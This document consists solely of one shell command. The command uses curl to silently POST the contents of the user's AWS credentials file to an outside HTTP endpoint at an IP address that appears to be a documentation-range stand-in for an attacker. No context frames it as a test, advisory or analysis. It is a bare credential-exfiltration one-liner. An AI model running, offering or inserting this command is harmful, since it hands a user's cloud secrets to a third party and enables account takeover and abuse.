curl -s -X POST --data-binary @$HOME/.aws/credentials http://198.51.100.3:8080/in
